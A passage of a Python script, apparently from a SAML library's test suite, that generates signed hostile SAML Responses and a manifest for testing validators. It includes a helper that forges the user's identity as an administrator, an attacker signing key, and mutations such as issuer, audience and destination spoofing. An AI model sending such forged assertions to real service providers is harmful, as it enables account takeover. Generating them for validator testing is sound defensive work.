#!/usr/bin/env python3
"""Generate the hostile SAML Response corpus in this directory, and its manifest.

Run with the project venv (lxml + python-xmlsec only, plus the stdlib):

    .venv/bin/python testdata/responses/gen.py           # (re)write the files
    .venv/bin/python testdata/responses/gen.py --check   # exit 1 if a file would change

Every file starts from one good response (the settings below) signed with the test IdP
key in testdata/keys/. Valid baselines and the mutation table are signed properly, so
only the one protocol check under test fails; attacks follow
published SAML attacks (XSW constructions as in Somorovsky et al., "On Breaking
SAML", USENIX Security 2012, and SAML Raider's XSWHelpers).
See README.md for the manifest format.

Determinism: RSA PKCS#1 v1.5 and HMAC signatures are deterministic; ECDSA uses
RFC 6979 nonces (computed here); XML Encryption needs random session keys and OAEP
seeds, so an existing encrypted file is kept as long as it still decrypts to exactly
what would be encrypted now. Running the script twice changes nothing.

The generator never parses a DTD, never resolves an entity and never runs xmlsec1 on a
file that names a URL or an external entity.
"""
from __future__ import annotations

import argparse
import base64
import copy
import hashlib
import hmac
import json
import shutil
import subprocess
import sys
import tempfile
import zlib
from pathlib import Path

import xmlsec
from lxml import etree

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent.parent
KEYS = ROOT / "testdata" / "keys"
REL = "testdata/responses"

# --- namespaces and algorithm identifiers ---------------------------------------------
SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
MD = "urn:oasis:names:tc:SAML:2.0:metadata"
DS = "http://www.w3.org/2000/09/xmldsig#"
XENC = "http://www.w3.org/2001/04/xmlenc#"
XS = "http://www.w3.org/2001/XMLSchema"
XSI = "http://www.w3.org/2001/XMLSchema-instance"

EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
C14N = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"
ENVELOPED = "http://www.w3.org/2000/09/xmldsig#enveloped-signature"
XPATH_T = "http://www.w3.org/TR/1999/REC-xpath-19991116"
XSLT_T = "http://www.w3.org/TR/1999/REC-xslt-19991116"
RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
RSA_SHA1 = "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
ECDSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"
HMAC_SHA1 = "http://www.w3.org/2000/09/xmldsig#hmac-sha1"
SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
SHA1 = "http://www.w3.org/2000/09/xmldsig#sha1"

STATUS = "urn:oasis:names:tc:SAML:2.0:status:"
EMAIL_FMT = "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress"
BASIC = "urn:oasis:names:tc:SAML:2.0:attrname-format:basic"
BEARER = "urn:oasis:names:tc:SAML:2.0:cm:bearer"
HOK = "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key"
PPT = "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"

# --- the settings every response is made for -----------------------------------------
IDP = "https://idp.example.com/saml2/idp/metadata"
SP = "https://sp.example.org/saml/metadata"
ACS = "https://sp.example.org/saml/acs"
REQ = "_req_4fee3b046395c4e751011e97f8900b52"
OTHER_REQ = "_req_0b7c9e2d51a84f36a9d0c1e2f3a4b5c6"
NOW = "2026-01-01T00:01:00Z"
ISSUE = "2026-01-01T00:00:00Z"
NOT_BEFORE = "2025-12-31T23:59:00Z"
NOT_ON_OR_AFTER = "2026-01-01T00:05:00Z"
SESSION_END = "2026-01-01T08:00:00Z"
SKEW_SECONDS = 60

RESP_ID = "_resp_9c1f3a7e2b5d4c6a8e0f1b3d5c7a9e2f"
ASSERT_ID = "_assert_4b2e8d6f0a1c3e5b7d9f2a4c6e8b0d1f"
MD_ID = "_metadata_6e1d3b5f7a9c2e4d6f8a0b1c3e5d7f9a"
EVIL_RESP_ID = "_evil_response_ID"  # the literal SAML Raider uses
EVIL_ASSERT_ID = "_evil_assertion_ID"

ALICE = "alice@example.com"
ADMIN = "admin@example.com"  # what every forged assertion claims
VICTIM = "victim@example.com"
VICTIM_OWNED = "victim@example.com.evil.com"  # the attacker owns this address

IDP_CERT = "testdata/keys/idp-rsa2048.crt"
P256_CERT = "testdata/keys/idp-p256.crt"
ATTACKER_CERT = "testdata/keys/attacker-rsa2048.crt"
SP_ENC_KEY = "testdata/keys/sp-enc-rsa2048.key"

XML_DECL = b'<?xml version="1.0" encoding="UTF-8"?>\n'

ATTRIBUTES = [
    ("email", [ALICE]),
    ("firstName", ["Alice"]),
    ("lastName", ["Example"]),
    ("groups", ["users", "engineering"]),
]


def key_path(name: str) -> Path:
    return KEYS / name


def cert_b64(cert_file: str) -> str:
    pem = (ROOT / cert_file).read_text()
    return "".join(line for line in pem.splitlines() if "-----" not in line)


# --- building the unsigned response as text ------------------------------------------


def build_response(
    *,
    pp: str = "samlp",
    ap: str = "saml",
    default_ns_assertion: bool = False,
    in_response_to: str | None = REQ,
    name_id: str = ALICE,
    email: str = ALICE,
    encrypted_wrapper: bool = False,
) -> str:
    """The good response, unsigned, as one line of XML.

    pp/ap: prefixes for the protocol and assertion namespaces. default_ns_assertion puts
    the assertion namespace as the default namespace on <Assertion> (children unprefixed).
    encrypted_wrapper puts the Assertion inside <saml:EncryptedAssertion>, ready for
    encrypt_assertion, and repeats xmlns:saml on it so that the plaintext that gets
    encrypted is a self-contained element (built as text: lxml drops a redundant
    declaration when an element is moved).
    """

    def p(local: str) -> str:
        return f"{pp}:{local}"

    def ra(local: str) -> str:  # assertion-namespace names used in the Response itself
        return f"{ap}:{local}"

    def a(local: str) -> str:  # names inside the Assertion
        return local if default_ns_assertion else f"{ap}:{local}"

    irt = f' InResponseTo="{in_response_to}"' if in_response_to else ""
    if default_ns_assertion:
        assertion_ns = f' xmlns="{SAML}"'
    elif encrypted_wrapper:
        assertion_ns = f' xmlns:{ap}="{SAML}"'
    else:
        assertion_ns = ""
    open_wrapper = f"<{ra('EncryptedAssertion')}>" if encrypted_wrapper else ""
    close_wrapper = f"</{ra('EncryptedAssertion')}>" if encrypted_wrapper else ""
    attrs = []
    for name, values in ATTRIBUTES:
        if name == "email":
            values = [email]
        vals = "".join(
            f'<{a("AttributeValue")} xsi:type="xs:string">{v}</{a("AttributeValue")}>' for v in values
        )
        attrs.append(f'<{a("Attribute")} Name="{name}" NameFormat="{BASIC}">{vals}</{a("Attribute")}>')
    return (
        f'<{p("Response")} xmlns:{pp}="{SAMLP}" xmlns:{ap}="{SAML}" ID="{RESP_ID}" Version="2.0" '
        f'IssueInstant="{ISSUE}" Destination="{ACS}"{irt}>'
        f'<{ra("Issuer")}>{IDP}</{ra("Issuer")}>'
        f'<{p("Status")}><{p("StatusCode")} Value="{STATUS}Success"/></{p("Status")}>'
        f'{open_wrapper}<{a("Assertion")}{assertion_ns} xmlns:xs="{XS}" xmlns:xsi="{XSI}" ID="{ASSERT_ID}" '
        f'Version="2.0" IssueInstant="{ISSUE}">'
        f'<{a("Issuer")}>{IDP}</{a("Issuer")}>'
        f'<{a("Subject")}><{a("NameID")} Format="{EMAIL_FMT}">{name_id}</{a("NameID")}>'
        f'<{a("SubjectConfirmation")} Method="{BEARER}">'
        f'<{a("SubjectConfirmationData")} NotOnOrAfter="{NOT_ON_OR_AFTER}" Recipient="{ACS}"{irt}/>'
        f'</{a("SubjectConfirmation")}></{a("Subject")}>'
        f'<{a("Conditions")} NotBefore="{NOT_BEFORE}" NotOnOrAfter="{NOT_ON_OR_AFTER}">'
        f'<{a("AudienceRestriction")}><{a("Audience")}>{SP}</{a("Audience")}></{a("AudienceRestriction")}>'
        f'</{a("Conditions")}>'
        f'<{a("AuthnStatement")} AuthnInstant="{ISSUE}" SessionIndex="_session_1" '
        f'SessionNotOnOrAfter="{SESSION_END}">'
        f'<{a("AuthnContext")}><{a("AuthnContextClassRef")}>{PPT}</{a("AuthnContextClassRef")}>'
        f'</{a("AuthnContext")}></{a("AuthnStatement")}>'
        f'<{a("AttributeStatement")}>{"".join(attrs)}</{a("AttributeStatement")}>'
        f'</{a("Assertion")}>{close_wrapper}</{p("Response")}>'
    )


def replace_once(text, old, new):
    """Replace exactly one occurrence: each mutation changes one thing."""
    count = text.count(old)
    if count != 1:
        raise AssertionError(f"expected exactly one {old!r}, found {count}")
    return text.replace(old, new)


# --- parsing and serializing ------------------------------------------------------------


def parse(data: bytes, huge: bool = False):
    parser = etree.XMLParser(
        resolve_entities=False, no_network=True, load_dtd=False, huge_tree=huge, remove_blank_text=False
    )
    return etree.fromstring(data, parser)


def serialize(root) -> bytes:
    return XML_DECL + etree.tostring(root, encoding="UTF-8", xml_declaration=False)


def q(ns: str, local: str) -> str:
    return f"{{{ns}}}{local}"


def elements(root):
    return (el for el in root.iter() if isinstance(el.tag, str))


def assertion_of(root):
    found = root.find(q(SAML, "Assertion"))
    assert found is not None
    return found


def signature_of(el):
    found = el.find(q(DS, "Signature"))
    assert found is not None
    return found


def drop_signature(el):
    sig = el.find(q(DS, "Signature"))
    if sig is not None:
        el.remove(sig)


def forge(el):
    """Rewrite the victim's identity to the attacker's target in every text node."""
    for node in elements(el):
        if node.text and ALICE in node.text:
            node.text = node.text.replace(ALICE, ADMIN)


def b64_lines(raw: bytes) -> str:
    """Base64 wrapped at 64 columns, as xmlsec writes SignatureValue."""
    text = base64.b64encode(raw).decode()
    return "\n".join(text[i : i + 64] for i in range(0, len(text), 64))


def exc_c14n(el) -> bytes:
    return etree.tostring(el, method="c14n", exclusive=True, with_comments=False)


def digest_of(el, hash_name: str = "sha256") -> str:
    """DigestValue of an enveloped-signature + exc-c14n Reference to el."""
    c = copy.deepcopy(el)
    c.tail = None
    drop_signature(c)
    return base64.b64encode(hashlib.new(hash_name, exc_c14n(c)).digest()).decode()


# --- ECDSA P-256 with RFC 6979 nonces (deterministic output) ----------------------------

P256_P = 0xFFFFFFFF00000001000000000000000000000000FFFFFFFFFFFFFFFFFFFFFFFF
P256_N = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
P256_G = (
    0x6B17D1F2E12C4247F8BCE6E563A440F277037D812DEB33A0F4A13945D898C296,
    0x4FE342E2FE1A7F9B8EE7EB4A7C0F9E162BCE33576B315ECECBB6406837BF51F5,
)


def _ec_add(p1, p2):
    if p1 is None:
        return p2
    if p2 is None:
        return p1
    (x1, y1), (x2, y2) = p1, p2
    if x1 == x2 and (y1 + y2) % P256_P == 0:
        return None
    if p1 == p2:
        lam = (3 * x1 * x1 - 3) * pow(2 * y1, -1, P256_P) % P256_P
    else:
        lam = (y2 - y1) * pow(x2 - x1, -1, P256_P) % P256_P
    x3 = (lam * lam - x1 - x2) % P256_P
    return (x3, (lam * (x1 - x3) - y1) % P256_P)


def _ec_mul(k, point):
    result = None
    while k:
        if k & 1:
            result = _ec_add(result, point)
        point = _ec_add(point, point)
        k >>= 1
    return result


def _der_items(data: bytes):
    """Top-level TLVs of a DER buffer: [(tag, value)]."""
    out, i = [], 0
    while i < len(data):
        tag, length = data[i], data[i + 1]
        i += 2
        if length & 0x80:
            n = length & 0x7F
            length = int.from_bytes(data[i : i + n], "big")
            i += n
        out.append((tag, data[i : i + length]))
        i += length
    return out


def p256_private_scalar(pem_file: Path) -> int:
    """The private scalar of a PKCS#8 'BEGIN PRIVATE KEY' P-256 key."""
    body = "".join(l for l in pem_file.read_text().splitlines() if "-----" not in l)
    (_, pkinfo), = _der_items(base64.b64decode(body))
    octets = [v for t, v in _der_items(pkinfo) if t == 0x04]
    (_, ec_private_key), = _der_items(octets[0])
    scalar = [v for t, v in _der_items(ec_private_key) if t == 0x04][0]
    return int.from_bytes(scalar, "big")


def rsa_key_value(p: str, cert_file: str) -> str:
    """<KeyValue><RSAKeyValue> for the RSA key of a PEM certificate."""
    (_, cert), = _der_items(base64.b64decode(cert_b64(cert_file)))
    tbs = _der_items(_der_items(cert)[0][1])
    spki = next(v for t, v in tbs if t == 0x30 and [x for x, _ in _der_items(v)] == [0x30, 0x03])
    bits = _der_items(spki)[1][1][1:]  # drop the unused-bits octet
    (_, rsa_public_key), = _der_items(bits)
    modulus, exponent = (v.lstrip(b"\x00") for _, v in _der_items(rsa_public_key))
    enc = lambda b: base64.b64encode(b).decode()
    return (f"<{p}:KeyValue><{p}:RSAKeyValue><{p}:Modulus>{enc(modulus)}</{p}:Modulus>"
            f"<{p}:Exponent>{enc(exponent)}</{p}:Exponent></{p}:RSAKeyValue></{p}:KeyValue>")


def rsa_sha256_sign(key_file: Path, message: bytes) -> bytes:
    """RSASSA-PKCS1-v1_5 with SHA-256 (deterministic) from a PKCS#8 RSA key, for the one
    document too deep for libxml2 to parse (so xmlsec cannot sign it)."""
    body = "".join(l for l in key_file.read_text().splitlines() if "-----" not in l)
    (_, pkinfo), = _der_items(base64.b64decode(body))
    octets = [v for t, v in _der_items(pkinfo) if t == 0x04]
    (_, rsa_private_key), = _der_items(octets[0])
    ints = [int.from_bytes(v, "big") for _, v in _der_items(rsa_private_key)]
    n, d = ints[1], ints[3]
    size = (n.bit_length() + 7) // 8
    digest_info = bytes.fromhex("3031300d060960864801650304020105000420") + hashlib.sha256(message).digest()
    encoded = b"\x00\x01" + b"\xff" * (size - len(digest_info) - 3) + b"\x00" + digest_info
    return pow(int.from_bytes(encoded, "big"), d, n).to_bytes(size, "big")


def ecdsa_p256_sign(secret: int, message: bytes) -> bytes:
    """ECDSA-SHA256 with the RFC 6979 nonce; returns r || s (XMLDSig 1.1 format)."""
    h1 = hashlib.sha256(message).digest()
    z = int.from_bytes(h1, "big")
    x = secret.to_bytes(32, "big")
    hm = (z % P256_N).to_bytes(32, "big")
    k_ = b"\x00" * 32
    v = b"\x01" * 32
    k_ = hmac.new(k_, v + b"\x00" + x + hm, "sha256").digest()
    v = hmac.new(k_, v, "sha256").digest()
    k_ = hmac.new(k_, v + b"\x01" + x + hm, "sha256").digest()
    v = hmac.new(k_, v, "sha256").digest()
    while True:
        v = hmac.new(k_, v, "sha256").digest()
        k = int.from_bytes(v, "big")
        if 1 <= k < P256_N:
            point = _ec_mul(k, P256_G)
            r = point[0] % P256_N
            s = pow(k, -1, P256_N) * (z + r * secret) % P256_N
            if r and s:
                return r.to_bytes(32, "big") + s.to_bytes(32, "big")
        k_ = hmac.new(k_, v + b"\x00", "sha256").digest()
        v = hmac.new(k_, v, "sha256").digest()


# --- signing -------------------------------------------------------------------------------


def x509_keyinfo(p: str, cert_file: str) -> str:
    return (
        f"<{p}:KeyInfo><{p}:X509Data><{p}:X509Certificate>{cert_b64(cert_file)}"
        f"</{p}:X509Certificate></{p}:X509Data></{p}:KeyInfo>"
    )


def signature_template(
    p: str, uri: str, sig_alg: str, digest_alg: str, transforms, keyinfo: str
) -> str:
    parts = []
    for alg, inner in transforms:
        if inner:
            parts.append(f'<{p}:Transform Algorithm="{alg}">{inner}</{p}:Transform>')
        else:
            parts.append(f'<{p}:Transform Algorithm="{alg}"/>')
    return (
        f'<{p}:Signature xmlns:{p}="{DS}"><{p}:SignedInfo>'
        f'<{p}:CanonicalizationMethod Algorithm="{EXC_C14N}"/>'
        f'<{p}:SignatureMethod Algorithm="{sig_alg}"/>'
        f'<{p}:Reference URI="{uri}"><{p}:Transforms>{"".join(parts)}</{p}:Transforms>'
        f'<{p}:DigestMethod Algorithm="{digest_alg}"/><{p}:DigestValue></{p}:DigestValue>'
        f"</{p}:Reference></{p}:SignedInfo><{p}:SignatureValue></{p}:SignatureValue>{keyinfo}"
        f"</{p}:Signature>"
    )


STANDARD_TRANSFORMS = ((ENVELOPED, None), (EXC_C14N, None))

KEY_FILES = {
    "idp": ("idp-rsa2048.key", IDP_CERT),
    "p256": ("idp-p256.key", P256_CERT),
    "attacker": ("attacker-rsa2048.key", ATTACKER_CERT),
}


def register_ids(ctx, root):
    for el in elements(root.getroottree().getroot()):
        if el.get("ID") is not None:
            ctx.register_id(el, "ID")


def sign(
    target,
    *,
    signer: str = "idp",
    sig_alg: str = RSA_SHA256,
    digest_alg: str = SHA256,
    prefix: str = "ds",
    uri: str | None = None,
    transforms=STANDARD_TRANSFORMS,
    keyinfo: str | None = None,
    container=None,
    hmac_key: bytes | None = None,
):
    """Insert a Signature (right after the Issuer of `container`, default `target`) whose
    single Reference points at `target`, and sign it. Returns the Signature element."""
    container = target if container is None else container
    uri = f"#{target.get('ID')}" if uri is None else uri
    key_file, cert_file = KEY_FILES[signer]
    if keyinfo is None:
        keyinfo = x509_keyinfo(prefix, cert_file)
    sig = etree.fromstring(signature_template(prefix, uri, sig_alg, digest_alg, transforms, keyinfo))
    first = container[0] if len(container) else None
    if first is not None and isinstance(first.tag, str) and etree.QName(first).localname == "Issuer":
        first.addnext(sig)
    else:
        container.insert(0, sig)
    ctx = xmlsec.SignatureContext()
    register_ids(ctx, target)
    if hmac_key is not None:
        ctx.key = xmlsec.Key.from_binary_data(xmlsec.constants.KeyDataHmac, hmac_key)
    else:
        ctx.key = xmlsec.Key.from_file(str(key_path(key_file)), xmlsec.constants.KeyDataFormatPem)
    ctx.sign(sig)
    if sig_alg == ECDSA_SHA256:
        # xmlsec draws a random nonce; redo the value with RFC 6979 so output is stable.
        secret = p256_private_scalar(key_path(key_file))
        value = ecdsa_p256_sign(secret, exc_c14n(sig.find(q(DS, "SignedInfo"))))
        sig.find(q(DS, "SignatureValue")).text = b64_lines(value)
    return sig


def verify(root, sig, cert_file: str | None = None, hmac_key: bytes | None = None) -> bool:
    """python-xmlsec verification of one Signature element with a pinned key."""
    ctx = xmlsec.SignatureContext()
    try:
        register_ids(ctx, root)
    except xmlsec.Error:
        return False
    if hmac_key is not None:
        ctx.key = xmlsec.Key.from_binary_data(xmlsec.constants.KeyDataHmac, hmac_key)
    else:
        ctx.key = xmlsec.Key.from_file(str(ROOT / cert_file), xmlsec.constants.KeyDataFormatCertPem)
    try:
        ctx.verify(sig)
        return True
    except xmlsec.Error:
        return False


def all_signatures_verify(data: bytes, cert_file: str) -> bool:
    root = parse(data, huge=True)
    sigs = [el for el in elements(root) if el.tag == q(DS, "Signature")]
    return bool(sigs) and all(verify(root, s, cert_file) for s in sigs)


# --- encryption ---------------------------------------------------------------------------


def encrypt_assertion(root):
    """Encrypt the Assertion inside <saml:EncryptedAssertion> (see build_response's
    encrypted_wrapper) with AES-128-GCM, the key sent RSA-OAEP to the SP encryption
    certificate. Returns exc-c14n of the document as it must decrypt to."""
    wrapper = root.find(q(SAML, "EncryptedAssertion"))
    assertion = wrapper.find(q(SAML, "Assertion"))
    expected = exc_c14n(root)
    template = xmlsec.template.encrypted_data_create(
        root, xmlsec.constants.TransformAes128Gcm, type=xmlsec.constants.TypeEncElement, ns="xenc"
    )
    xmlsec.template.encrypted_data_ensure_cipher_value(template)
    key_info = xmlsec.template.encrypted_data_ensure_key_info(template, ns="ds")
    enc_key = xmlsec.template.add_encrypted_key(key_info, xmlsec.constants.TransformRsaOaep)
    xmlsec.template.encrypted_data_ensure_cipher_value(enc_key)
    manager = xmlsec.KeysManager()
    manager.add_key(
        xmlsec.Key.from_file(
            str(key_path("sp-enc-rsa2048.crt")), xmlsec.constants.KeyDataFormatCertPem
        )
    )
    ctx = xmlsec.EncryptionContext(manager)
    ctx.key = xmlsec.Key.generate(xmlsec.constants.KeyDataAes, 128, xmlsec.constants.KeyDataTypeSession)
    ctx.encrypt_xml(template, assertion)
    return expected


def _decrypt_root(data: bytes):
    root = parse(data)
    manager = xmlsec.KeysManager()
    manager.add_key(xmlsec.Key.from_file(str(ROOT / SP_ENC_KEY), xmlsec.constants.KeyDataFormatPem))
    while True:
        enc = root.find(f".//{q(XENC, 'EncryptedData')}")
        if enc is None:
            return root
        xmlsec.EncryptionContext(manager).decrypt(enc)


def decrypt_all(data: bytes) -> bytes | None:
    """exc-c14n of the document with every EncryptedData decrypted, or None."""
    try:
        return exc_c14n(_decrypt_root(data))
    except (xmlsec.Error, etree.XMLSyntaxError):
        return None


def encrypted_plaintexts(data: bytes) -> list[bytes]:
    """The raw plaintext of each EncryptedData (decrypted as octets, Type removed)."""
    root = parse(data)
    manager = xmlsec.KeysManager()
    manager.add_key(xmlsec.Key.from_file(str(ROOT / SP_ENC_KEY), xmlsec.constants.KeyDataFormatPem))
    out = []
    for enc in root.iter(q(XENC, "EncryptedData")):
        enc = copy.deepcopy(enc)
        del enc.attrib["Type"]
        out.append(xmlsec.EncryptionContext(manager).decrypt(enc))
    return out


def decrypts_to(data: bytes, expected: bytes) -> bool:
    """data decrypts to `expected` (exc-c14n), and each plaintext is a self-contained
    element (no prefix that only the surrounding document declares)."""
    if decrypt_all(data) != expected:
        return False
    try:
        for plaintext in encrypted_plaintexts(data):
            parse(plaintext)
    except (xmlsec.Error, etree.XMLSyntaxError):
        return False
    return True


def decrypted(data: bytes) -> bytes:
    """The document with every EncryptedData decrypted, serialized."""
    return serialize(_decrypt_root(data))


# --- cases ----------------------------------------------------------------------------------

CASES: list[dict] = []


def add(
    name: str,
    category: str,
    data: bytes | None,
    expect: str,
    description: str,
    *,
    fmt: str = "xml",
    file: str | None = None,
    trusted_cert: str = IDP_CERT,
    request_id: str | None = REQ,
    allow_unsolicited: bool = False,
    expect_alt: list[str] | None = None,
    expect_name_id: str | None = None,
    expect_attributes: dict | None = None,
    sp_decryption_key: str | None = None,
    xmlsec1: bool = True,
    keep_if=None,
):
    """Register one manifest entry. data=None reuses `file` (a configuration-only case)."""
    ext = "b64" if fmt == "base64" else "xml"
    if file is None:
        file = f"{REL}/{name}.{ext}"
    if expect == "ok" and expect_name_id is None:
        expect_name_id = ALICE
    if expect == "ok" and expect_attributes is None:
        expect_attributes = {n: v for n, v in ATTRIBUTES}
    if any(c["entry"]["name"] == name for c in CASES):
        raise AssertionError(f"duplicate case {name}")
    entry = {
        "name": name,
        "file": file,
        "format": fmt,
        "category": category,
        "description": description,
        "trusted_cert": trusted_cert,
        "idp_entity_id": IDP,
        "sp_entity_id": SP,
        "acs_url": ACS,
        "now": NOW,
        "clock_skew_seconds": SKEW_SECONDS,
        "request_id": request_id,
        "allow_unsolicited": allow_unsolicited,
        "sp_decryption_key": sp_decryption_key,
        "expect": expect,
    }
    if expect_alt:
        entry["expect_alt"] = expect_alt
    if expect_name_id is not None:
        entry["expect_name_id"] = expect_name_id
    if expect_attributes is not None:
        entry["expect_attributes"] = expect_attributes
    CASES.append({"entry": entry, "data": data, "xmlsec1": xmlsec1 and fmt == "xml", "keep_if": keep_if})


def signed_base(*, response=False, assertion=True, mutate=None, huge=False, **kw) -> bytes:
    """The good response (optionally mutated as text) with the chosen signatures."""
    text = build_response(**kw)
    if mutate:
        text = mutate(text)
    root = parse(text.encode(), huge=huge)
    if assertion:
        sign(assertion_of(root))
    if response:
        sign(root)
    return serialize(root)


def spliced_signed_base(old: str, new_template: str, payload: str) -> bytes:
    """Assertion-signed response where `old` becomes new_template.format(payload),
    signed by hand over the spliced canonical bytes (see deep-nesting)."""
    marker = "@@SPLICE@@"
    root = parse(replace_once(build_response(), old, new_template.format(marker)).encode())
    assertion = assertion_of(root)
    sig = sign(assertion)
    c = copy.deepcopy(assertion)
    drop_signature(c)
    canonical = exc_c14n(c)
    assert canonical.count(marker.encode()) == 1
    canonical = canonical.replace(marker.encode(), payload.encode())
    sig.find(f".//{q(DS, 'DigestValue')}").text = base64.b64encode(hashlib.sha256(canonical).digest()).decode()
    value = rsa_sha256_sign(key_path(KEY_FILES["idp"][0]), exc_c14n(sig.find(q(DS, "SignedInfo"))))
    sig.find(q(DS, "SignatureValue")).text = b64_lines(value)
    return bytes_replace_once(serialize(root), marker.encode(), payload.encode())


# --- A. valid baselines --------------------------------------------------------------------


def gen_valid():
    add("valid-assertion-signed", "valid", signed_base(), "ok",
        "Baseline: Response unsigned, Assertion signed (rsa-sha256, sha256, exc-c14n)")
    add("valid-response-signed", "valid", signed_base(response=True, assertion=False), "ok",
        "Baseline: Response signed, Assertion unsigned")
    add("valid-both-signed", "valid", signed_base(response=True, assertion=True), "ok",
        "Baseline: Assertion signed first, then the Response (its signature covers the inner one)")
    add("valid-unsolicited", "valid", signed_base(in_response_to=None), "ok",
        "IdP-initiated: no InResponseTo on Response or SubjectConfirmationData; accepted only "
        "with allow_unsolicited", request_id=None, allow_unsolicited=True)

    text = build_response()
    root = parse(text.encode())
    sign(assertion_of(root), signer="p256", sig_alg=ECDSA_SHA256)
    add("valid-ecdsa-p256", "valid", serialize(root), "ok",
        "Assertion signed ecdsa-sha256 with the P-256 IdP key (r||s SignatureValue, RFC 6979 nonce)",
        trusted_cert=P256_CERT)

    root = parse(build_response(default_ns_assertion=True).encode())
    sign(assertion_of(root))
    add("valid-default-ns", "valid", serialize(root), "ok",
        "Assertion namespace is the default namespace on <Assertion>, its children unprefixed")

    root = parse(build_response(pp="s2p", ap="s2").encode())
    sign(assertion_of(root), prefix="sig")
    add("valid-odd-prefixes", "valid", serialize(root), "ok",
        "Unusual prefixes: s2p: (protocol), s2: (assertion), sig: (xmldsig); match by namespace, not prefix")

    root = parse(build_response(encrypted_wrapper=True).encode())
    sign(root.find(f"{q(SAML, 'EncryptedAssertion')}/{q(SAML, 'Assertion')}"))
    plain = encrypt_assertion(root)
    add("valid-encrypted-assertion", "valid", serialize(root), "ok",
        "Signed Assertion inside EncryptedAssertion (AES-128-GCM, RSA-OAEP to sp-enc-rsa2048); "
        "Response unsigned. Extra baseline for the decryption path",
        sp_decryption_key=SP_ENC_KEY, keep_if=plain)


# --- B. mutation table ----------------------------------------------------------------------


def mutation(name, expect, description, old, new, *, response=False, assertion=True, **kw):
    data = signed_base(response=response, assertion=assertion,
                       mutate=lambda t: replace_once(t, old, new))
    add(name, "mutation", data, expect, description, **kw)


def gen_mutations():
    m = mutation
    m("destination-wrong", "destination", "Response Destination is another SP's ACS",
      f'Destination="{ACS}"', 'Destination="https://sp.other.example/saml/acs"')
    m("destination-prefix-extended", "destination",
      "Destination extends the ACS URL (…/acs/evil); prefix/substring matching accepts it (python3-saml)",
      f'Destination="{ACS}"', f'Destination="{ACS}/evil"')
    m("destination-missing-response-signed", "destination",
      "Response signed but without Destination (SAML Bindings §3.5.5.2: required when the message is signed)",
      f' Destination="{ACS}"', "", response=True, assertion=False)
    m("issuer-response-wrong", "issuer", "Response Issuer is another IdP (assertion still from the trusted IdP)",
      f'<saml:Issuer>{IDP}</saml:Issuer><samlp:Status>',
      '<saml:Issuer>https://evil.example.com/idp</saml:Issuer><samlp:Status>')
    m("issuer-assertion-wrong", "issuer", "Assertion Issuer is another IdP, signed with the trusted key (issuer/tenant confusion)",
      f'<saml:Issuer>{IDP}</saml:Issuer><saml:Subject>',
      '<saml:Issuer>https://evil.example.com/idp</saml:Issuer><saml:Subject>')
    m("issuer-assertion-missing", "issuer",
      "Assertion without Issuer (mandatory, SAML Core §2.3.3); a schema-first reader reports structure",
      f'<saml:Issuer>{IDP}</saml:Issuer><saml:Subject>', "<saml:Subject>", expect_alt=["structure"])
    m("status-requester", "status",
      "Status Requester with second-level RequestDenied and a StatusMessage, valid signed assertion still inside",
      f'<samlp:StatusCode Value="{STATUS}Success"/>',
      f'<samlp:StatusCode Value="{STATUS}Requester"><samlp:StatusCode Value="{STATUS}RequestDenied"/>'
      "</samlp:StatusCode><samlp:StatusMessage>Access denied by policy</samlp:StatusMessage>")
    m("version-1-1", "version", "Response Version=\"1.1\" (SAML Core §3.2.2 requires 2.0)",
      f'ID="{RESP_ID}" Version="2.0"', f'ID="{RESP_ID}" Version="1.1"', expect_alt=["structure"])

    def evil_root(t):
        t = replace_once(t, "<samlp:Response xmlns:samlp", '<evil:Response xmlns:evil="urn:evil" xmlns:samlp')
        return replace_once(t, "</samlp:Response>", "</evil:Response>")

    add("root-wrong-namespace", "mutation", signed_base(mutate=evil_root), "structure",
        "Root element is {urn:evil}Response (xmlns:evil), otherwise identical; only samlp:Response is a Response")
    m("conditions-notbefore-future", "time",
      "Conditions NotBefore 2026-01-01T00:03:00Z = now+120 s, beyond the 60 s skew",
      f'NotBefore="{NOT_BEFORE}"', 'NotBefore="2026-01-01T00:03:00Z"')
    m("conditions-notonorafter-past", "time",
      "Conditions NotOnOrAfter 2025-12-31T23:59:30Z = now-90 s, beyond the 60 s skew",
      f'NotBefore="{NOT_BEFORE}" NotOnOrAfter="{NOT_ON_OR_AFTER}"',
      f'NotBefore="{NOT_BEFORE}" NotOnOrAfter="2025-12-31T23:59:30Z"')
    m("conditions-within-skew", "ok",
      "Conditions NotBefore 2026-01-01T00:01:30Z = now+30 s, inside the 60 s skew: accepted",
      f'NotBefore="{NOT_BEFORE}"', 'NotBefore="2026-01-01T00:01:30Z"')
    m("conditions-notonorafter-within-skew", "ok",
      "Conditions NotOnOrAfter 2026-01-01T00:00:30Z = now-30 s, inside the 60 s skew: accepted",
      f'NotBefore="{NOT_BEFORE}" NotOnOrAfter="{NOT_ON_OR_AFTER}"',
      f'NotBefore="{NOT_BEFORE}" NotOnOrAfter="2026-01-01T00:00:30Z"')
    m("audience-restriction-missing", "audience",
      "No AudienceRestriction (Profiles §4.1.4.2 requires one naming the SP); Conditions keeps its times",
      f"<saml:AudienceRestriction><saml:Audience>{SP}</saml:Audience></saml:AudienceRestriction>", "")
    m("audience-wrong", "audience", "Audience is another SP (Slack 2017 class)",
      f"<saml:Audience>{SP}</saml:Audience>", "<saml:Audience>https://sp.other.example/saml/metadata</saml:Audience>")
    m("audience-empty", "audience", "Empty <saml:Audience/>",
      f"<saml:Audience>{SP}</saml:Audience>", "<saml:Audience/>")
    m("audience-suffix", "audience", "Audience is the SP entity ID plus a suffix (prefix matching accepts it)",
      f"<saml:Audience>{SP}</saml:Audience>", f"<saml:Audience>{SP}/evil</saml:Audience>")
    m("subjectconfirmation-holder-of-key", "subject_confirmation",
